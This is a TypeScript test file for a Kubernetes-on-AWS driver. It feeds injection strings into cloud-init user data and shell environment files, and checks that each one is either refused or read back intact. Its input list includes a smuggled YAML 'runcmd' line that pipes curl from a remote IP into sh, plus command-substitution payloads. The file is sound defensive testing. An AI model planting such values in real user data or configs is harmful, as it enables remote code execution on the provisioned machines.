/**
 * Every user-written (or minted) value the AWS driver writes into user data, fed with what breaks
 * YAML and shell: planning either refuses it (an `Unrenderable` error value naming the field) or
 * the user data parses back, as cloud-init and `sh` read it, to exactly the planned structure and
 * values.
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Cluster, Persisted } from '@kubeception/sdk';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { awsSpecOf, testCluster } from './cluster.test-support.js';
import { bootFile, userDataText, type CloudConfig } from './cloud-config.js';
import { planCluster } from './plan.js';

/** Whether `value` holds a C0 control character or DEL (newline, CR, NUL, …). */
const hasControlCharacter = (value: string) => [...value].some((c) => c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f);
const tmp = mkdtempSync(join(tmpdir(), 'kc-aws-injection-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
const PWNED = join(tmp, 'pwned');

const VALUES: readonly string[] = [
  'a\nruncmd: [curl http://203.0.113.9/x | sh]',
  'a\r\nb',
  'nul\0byte',
  "it's",
  'say "hi"',
  `$(touch ${PWNED})`,
  `\`touch ${PWNED}\``,
  '%n',
  'back\\slash',
  'two words',
  '- item',
  ': colon',
  '#comment',
  '{a: 1}',
  '&anchor *alias !!tag',
  '|',
];

const base = testCluster({
  name: 'prod',
  namespace: 'default',
  uid: '11111111-2222-4333-8444-555555555555',
  pool: { name: 'general', cpus: 4, memory: '16Gi', disk: '100Gi' },
});
const aws = awsSpecOf(base);

type Editable = { metadata: Record<string, unknown>; spec: any }; // eslint-disable-line @typescript-eslint/no-explicit-any
const FIELDS: Record<string, (c: Editable, v: string) => void> = {
  'metadata.name': (c, v) => (c.metadata.name = v),
  'metadata.namespace': (c, v) => (c.metadata.namespace = v),
  'spec.workers[0].name': (c, v) => (c.spec.workers[0].name = v),
  'spec.kubernetes.version': (c, v) => (c.spec.kubernetes.version = v),
};

/** The values an environment file holds, as `sh` reads them when it sources the file (which must run nothing). */
function sourced(content: string): Record<string, string> {
  const file = join(tmp, 'file.env');
  writeFileSync(file, content);
  const keys = [...content.matchAll(/^([A-Z_]+)=/gm)].map((m) => m[1] ?? '');
  expect(spawnSync('sh', ['-n', file]).status).toBe(0);
  const run = spawnSync('sh', ['-c', `. "$1" && printf '%s\\0' ${keys.map((k) => `"$${k}"`).join(' ')}`, 'sh', file], { encoding: 'utf8' });
  expect(run.status, run.stderr).toBe(0);
  const values = run.stdout.split('\0');
  return Object.fromEntries(keys.map((k, i) => [k, values[i] ?? '']));
}

/** User data as cloud-init reads it: the `#cloud-config` header and one YAML document of exactly the planned keys. */
function readUserData(text: string): CloudConfig {
  expect(text.startsWith('#cloud-config\n')).toBe(true);
  const config = parse(text) as CloudConfig;
  expect(Object.keys(config).sort()).toEqual(['hostname', 'write_files']);
  for (const file of config.write_files) expect(Object.keys(file).every((k) => ['path', 'permissions', 'content'].includes(k))).toBe(true);
  return config;
}

const CASES = Object.entries(FIELDS).flatMap(([field, edit]) => VALUES.map((value) => [field, JSON.stringify(value), value, edit] as const));

describe('user data', () => {
  it.each(CASES)('%s = %s: refused, or read back intact', (field, _shown, value, edit) => {
    const cluster = structuredClone(base) as unknown as Editable;
    edit(cluster, value);
    const result = planCluster(cluster as unknown as Persisted<Cluster>, aws);
    if (hasControlCharacter(value)) expect(result.isErr(), 'a control character is never written').toBe(true);
    if (result.isErr()) {
      expect(result.error).toMatchObject({ kind: 'Unrenderable', field: expect.stringMatching(/^(metadata|spec|node)/) });
      return;
    }
    for (const node of result.value.nodes) {
      const config = readUserData(node.userData);
      expect(config).toEqual(JSON.parse(JSON.stringify(node.cloudConfig)));
      expect(config.hostname).toBe(node.name);
      expect(config.write_files.map((f) => f.path)).toEqual(['/etc/kubeception/node.env']);
      const env = sourced(config.write_files[0]?.content ?? '');
      expect(env).toEqual({
        CLUSTER: cluster.metadata.name,
        CLUSTER_ID: result.value.id,
        ROLE: node.role,
        KUBERNETES_VERSION: cluster.spec.kubernetes.version,
      });
      expect(Object.values(env)).toContain(value);
    }
    expect(existsSync(PWNED)).toBe(false);
    expect(field).toBe('spec.kubernetes.version'); // names are DNS labels: only the version may carry these
  });

  it.each(VALUES.map((v) => [JSON.stringify(v), v] as const))(
    'the boot file with a Vault address or token %s: refused, or read back intact',
    (_shown, value) => {
      const node = planCluster(base, aws)._unsafeUnwrap().nodes[0]!;
      for (const [vaultAddr, token] of [
        [value, 'hvs.token'],
        ['https://vault:8200', value],
      ] as const) {
        const file = bootFile(vaultAddr, token);
        if (hasControlCharacter(value)) {
          expect(file._unsafeUnwrapErr().kind).toBe('Unrenderable');
          continue;
        }
        const config = readUserData(userDataText({ ...node.cloudConfig, write_files: [...node.cloudConfig.write_files, file._unsafeUnwrap()] }));
        expect(config.write_files.map((f) => [f.path, f.permissions])).toEqual([
          ['/etc/kubeception/node.env', undefined],
          ['/etc/kubeception/vault.env', '0600'],
        ]);
        expect(sourced(config.write_files[1]?.content ?? '')).toEqual({ VAULT_ADDR: vaultAddr, VAULT_WRAPPED_TOKEN: token });
      }
      expect(existsSync(PWNED)).toBe(false);
    },
  );
});
